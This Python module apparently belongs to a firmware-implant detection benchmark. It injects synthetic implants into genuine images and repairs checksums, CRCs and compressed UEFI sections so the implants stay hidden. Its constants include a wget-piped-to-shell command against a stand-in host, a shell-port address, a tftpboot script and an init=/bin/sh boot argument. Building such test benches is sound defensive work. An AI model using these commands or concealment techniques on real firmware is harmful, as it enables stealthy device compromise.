"""Implants that the bench puts into genuine images, by kind; *mended* ones repair the sums of the format afterwards.

A kind returns None where it does not apply: a mended patch needs a format whose sums are known here. :data:`KINDS` are
those of the bar; :data:`HARDER` were made by somebody who knows the rules and walks around them.
"""

import base64
import lzma
import re
import struct
from collections.abc import Callable
from random import Random

import numpy as np

from mumetal.core.firmware import FirmwareImage
from mumetal.scan.firmware import uefi, xilinx, xilinx_crc

GUIDED, GUIDED_LONG = uefi.GUIDED, b"\xff\xff\xff" + bytes([uefi.GUIDED])  # kind of a section; of one of 16 MiB or more
Implant = Callable[[bytes, FirmwareImage, Random], bytes | None]
COMMAND = b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &\0"
ADDRESS = b"203.0.113.9:4444\0"
SCRIPT = b"tftpboot ${kernel_addr_r} 203.0.113.7:p; bootm ${kernel_addr_r}\0"
URL = b"https://updates.example.net/p\0"
BOOT = b"init=/bin/sh console=null\0"
CERTIFICATE = base64.b64decode(  # P-256, signed by itself, its key thrown away
    "MIIBbzCCARWgAwIBAgIBBzAKBggqhkjOPQQDAjA1MRAwDgYDVQQKDAdFeGFtcGxlMSEwHwYDVQQDDBh1cGRhdGUgYXV0aG9yaXR5"
    "IGV4YW1wbGUwHhcNMjYwMTAxMDAwMDAwWhcNMzYwMTAxMDAwMDAwWjA1MRAwDgYDVQQKDAdFeGFtcGxlMSEwHwYDVQQDDBh1cGRh"
    "dGUgYXV0aG9yaXR5IGV4YW1wbGUwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAARQ5DfBjEV/xbwmZVySbsf4t5p+oK3b/lYNbfHu"
    "UC/sp0gZYUk7iwIPkKfClvKiEaoRvdNDpnpbwSF8Et3fVPIjoxYwFDASBgNVHRMBAf8ECDAGAQH/AgEAMAoGCCqGSM49BAMCA0gA"
    "MEUCIBShwB78f3d1MAvPugdgWtbgEkieCgImPzib0U06CNjRAiEAv9f5YGH6GzoHENrQfz1vDUsxJtSVkAo29Sv7MKLc/14="
)


def version_key(text: str) -> list[tuple[int, int, str]]:
    """Order versions by their numbers."""
    return [(1, int(p), "") if p.isdigit() else (0, 0, p) for p in re.findall(r"\d+|[a-z~]+", text)]


def payload(data: bytes, chance: Random, size: int) -> bytes:
    """Bytes of the image itself, scrambled with one byte: statistics that belong there, content that does not."""
    start = chance.randrange(max(1, len(data) // 2))
    for _ in range(50):
        start = chance.randrange(max(1, len(data) - size))
        if len(set(data[start : start + size])) > 20:
            break
    key = chance.randrange(1, 256)
    return bytes(b ^ key for b in data[start : start + size])


def cave(data: bytes, chance: Random, size: int) -> int | None:
    """A place inside the longest runs of equal filling, away from both ends of the run."""
    runs = [m.span() for m in re.finditer(rb"\x00{%d,}|\xff{%d,}" % (size + 128, size + 128), data)]
    if not runs:
        return None
    start, stop = chance.choice(sorted(runs, key=lambda s: s[0] - s[1])[:5])
    return chance.randrange(start + 64, stop - size - 63)


def place(data: bytes, at: int, body: bytes) -> bytes:
    """Overwrite, keeping the length."""
    return data[:at] + body + data[at + len(body) :]


def appended(data: bytes, _image: FirmwareImage, chance: Random) -> bytes:
    """Two KiB after the end."""
    return data + payload(data, chance, 2_048)


def in_cave(data: bytes, _image: FirmwareImage, chance: Random) -> bytes | None:
    """Half a KiB inside one of the longest runs of filling."""
    at = cave(data, chance, 512)
    return None if at is None else place(data, at, payload(data, chance, 512))


def in_cave_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
    """The same, sums mended."""
    evil = in_cave(data, image, chance)
    return None if evil is None else mend(evil, image)


def patch(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
    """64 bytes over code or frames."""
    regions = [
        r for r in image.regions if r.kind in {"code", "frames", "content"} and not r.parent and r.stop - r.start > 256
    ]
    if not regions:
        return None
    region = chance.choice(regions)
    at = chance.randrange(region.start + 64, region.stop - 128)
    return place(data, at, payload(data, chance, 64))


def patch_mended(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
    """The same, sums mended; UEFI files are packed, see :func:`repacked`."""
    evil = patch(data, image, chance)
    return None if evil is None or image.format == "uefi" else mend(evil, image)


def over_text(body: bytes) -> Implant:
    """Over a long text (a help page), or in a cave where there is none; sums mended where they can be."""

    def make(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
        if image.format.startswith("xilinx"):
            at = cave(data, chance, len(body))
        else:
            runs = [m.start() for m in re.finditer(rb"[ -~]{%d,}" % (len(body) + 8), data)]
            at = chance.choice(runs) + 4 if runs else cave(data, chance, len(body))
        if at is None:
            return None
        evil = place(data, at, b"\0" + body)
        return mend(evil, image) or evil

    return make


def mend(data: bytes, image: FirmwareImage) -> bytes | None:
    """Repair the sums that the format carries; None for formats whose sums are not repaired here."""
    if image.format == "option-rom":
        return _mend_rom(data, image)
    if image.format.startswith("xilinx"):
        return _mend_bitstream(data, image)
    return data if image.format in {"raw", "elf", "uefi"} else None


def _mend_rom(data: bytes, image: FirmwareImage) -> bytes:
    rom = bytearray(data)
    for region in image.regions:
        if region.name.endswith("-x86") and not region.parent:
            stop = min(region.start + rom[region.start + 2] * 512, region.stop)
            rom[stop - 1] = (rom[stop - 1] - sum(rom[region.start : stop])) & 0xFF
    return bytes(rom)


def _mend_bitstream(data: bytes, image: FirmwareImage) -> bytes:
    """Replay the writes and put the CRC that comes out where one is carried; frame ECCs are cleared, as some tools do."""
    region = next(r for r in image.regions if r.name.startswith("commands"))
    swapped = ("byte-order", "swapped") in image.facts
    order = "<" if swapped else ">"
    count = (len(data) - region.start - 4) // 4
    words = np.frombuffer(data, f"{order}u4", count, region.start + 4).astype(np.uint32)
    out, at, address, crc = bytearray(data), 0, 0, 0
    while at < words.size:
        header = int(words[at])
        kind, operation = header >> 29, header >> 27 & 3
        address = header >> 13 & 0x1F if kind == 1 else address
        length = (header & 0x7FF if kind == 1 else header & 0x7FFFFFF) if kind in {1, 2} and operation == 2 else 0
        block = words[at + 1 : at + 1 + length]
        place_at = region.start + 4 + 4 * (at + 1)
        if address == xilinx.CRC and length:
            struct.pack_into(f"{order}I", out, place_at, crc)
            crc = 0
        elif length:
            if (
                address == xilinx.FDRI
                and not block.size % 101
                and any(k == "idcode" and t[:2] == "03" for k, t in image.facts)
            ):
                block = _clear_ecc(block, out, place_at, order)
            crc = xilinx_crc.run(crc, block, address)
            if address == xilinx.CMD:
                if int(block[0]) == xilinx.RCRC:
                    crc = 0
                if int(block[0]) == xilinx.DESYNC:
                    break
        at += 1 + length
    return bytes(out)


def _clear_ecc(block: np.ndarray, out: bytearray, at: int, order: str) -> np.ndarray:
    block = block.copy()
    for frame in xilinx_crc.broken_frames_7(block):
        index = int(frame) * 101 + 50
        block[index] &= np.uint32(0xFFFFE000)
        struct.pack_into(f"{order}I", out, at + 4 * index, int(block[index]))
    return block


def wider_rights(data: bytes, image: FirmwareImage, _chance: Random) -> bytes | None:
    """Make every executable segment of an ELF writable."""
    if image.format != "elf" or data[4] != 2 or data[5] != 1:
        return None
    out = bytearray(data)
    (start,) = struct.unpack_from("<Q", data, 32)
    size, count = struct.unpack_from("<HH", data, 54)
    for index in range(count):
        kind, flags = struct.unpack_from("<II", data, start + index * size)
        if kind == 1 and flags & 1:
            struct.pack_into("<I", out, start + index * size + 4, flags | 2)
    return bytes(out)


def in_cave_paged(data: bytes, _image: FirmwareImage, chance: Random) -> bytes | None:
    """In filling, but on a page, as a linker would put it."""
    places = []
    for run in re.finditer(rb"\x00{4900,}|\xff{4900,}", data):
        first = (run.start() + 64 + 4_095) & ~4_095
        if first + 512 + 64 <= run.end():
            places.append(first)
    return place(data, chance.choice(places), payload(data, chance, 512)) if places else None


def patch_native(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
    """Code of the image itself, unscrambled, over other code of it; sums mended."""
    regions = [r for r in image.regions if r.kind in {"code", "content"} and not r.parent and r.stop - r.start > 1_024]
    if not regions or image.format == "uefi":
        return None
    region = chance.choice(regions)
    source, target = (chance.randrange(region.start + 64, region.stop - 128) & ~3 for _ in range(2))
    return mend(place(data, target, data[source : source + 64]), image)


def repacked(data: bytes, image: FirmwareImage, chance: Random) -> bytes | None:
    """A patch inside a packed UEFI section, packed again to the same length."""
    if image.format != "uefi":
        return None
    found = next(
        filter(None, (_packed(data, m.start()) for m in re.finditer(re.escape(uefi.LZMA.bytes_le), data))), None
    )
    if found is None:
        return None
    begin, packed, plain = found
    where = chance.randrange(len(plain) // 4, len(plain) - 64)
    evil = place(plain, where, payload(plain, chance, 64))
    filters = [{"id": lzma.FILTER_LZMA1, "preset": 9, "dict_size": int.from_bytes(packed[1:5], "little")}]
    again = lzma.compress(evil, format=lzma.FORMAT_ALONE, filters=filters)
    again = again[:5] + packed[5:13] + again[13:]
    if len(again) > len(packed):
        return None
    return place(data, begin, again.ljust(len(packed), b"\0"))


def _packed(data: bytes, at: int) -> tuple[int, bytes, bytes] | None:
    """Return (where, packed, plain) of the section whose GUID stands at ``at``; None when it is no section's.

    The GUID also stands in the code that unpacks such sections. A section of 16 MiB or more has its length after 0xFFFFFF.
    """
    if data[at - 8 : at - 4] == GUIDED_LONG:
        start, size = at - 8, int.from_bytes(data[at - 4 : at], "little")
    elif at >= 4 and data[at - 1] == GUIDED:
        start, size = at - 4, int.from_bytes(data[at - 4 : at - 1], "little")
    else:
        return None
    begin = start + int.from_bytes(data[at + 16 : at + 18], "little")
    packed = data[begin : start + size]
    try:
        plain = lzma.LZMADecompressor(format=lzma.FORMAT_ALONE).decompress(packed)
    except lzma.LZMAError:
        return None
    return (begin, packed, plain) if len(plain) > 1_024 else None


KINDS: dict[str, Implant] = {
    "appended": appended,
    "cave": in_cave,
    "cave-mended": in_cave_mended,
    "patch": patch,
    "patch-mended": patch_mended,
    "command": over_text(COMMAND),
    "address": over_text(ADDRESS),
    "boot-argument": over_text(BOOT),
    "certificate": over_text(CERTIFICATE),
    "wider-rights": wider_rights,
}
HARDER: dict[str, Implant] = {
    "cave-paged": in_cave_paged,
    "patch-native": patch_native,
    "boot-script": over_text(SCRIPT),
    "url": over_text(URL),
    "repacked": repacked,
}
